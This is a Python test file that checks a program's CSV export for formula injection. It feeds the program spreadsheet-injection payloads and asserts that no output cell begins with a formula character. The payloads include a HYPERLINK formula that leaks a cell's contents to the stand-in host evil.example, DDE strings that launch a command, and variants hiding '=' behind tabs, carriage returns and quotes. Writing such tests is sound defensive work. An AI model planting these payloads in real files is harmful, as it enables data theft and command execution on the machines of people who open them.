import csv
import io


def cells(box, *entries):
    ran = box.run(stdin="".join("\x1f".join(map(str, entry)) + "\x1f\x1e" for entry in entries).encode())
    return [cell for row in csv.reader(io.StringIO(ran.stdout, newline=""), delimiter=";") for cell in row]


def calculates(cell):
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_text(box):
    link = '=HYPERLINK("https://evil.example/?"&B2,"more")'
    for text in (link, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"):
        assert not any(map(calculates, cells(box, ("Ann", "Bergen", 5, text), ("Bo", "Oslo", 1, "cold"))))


def test_name_and_town(box):
    for text in ("=1+1", "+A1", "-A1", "@A1"):
        assert not any(map(calculates, cells(box, (text, "Bergen", 5, "good"))))
        assert not any(map(calculates, cells(box, ("Bo", text, 5, "good"))))


def test_behind_a_blank(box):
    for text in ("\t=1+1", "\r=1+1", "==1+1", "=\t=1+1", "'=1+1;=2", '";=1+1', "+-=@1+1", " \t=1+1", " =1+1"):
        for entry in ((text, "Bergen", 5, "good"), ("Bo", text, 5, "good"), ("Bo", "Bergen", 5, text)):
            assert not any(map(calculates, cells(box, entry)))
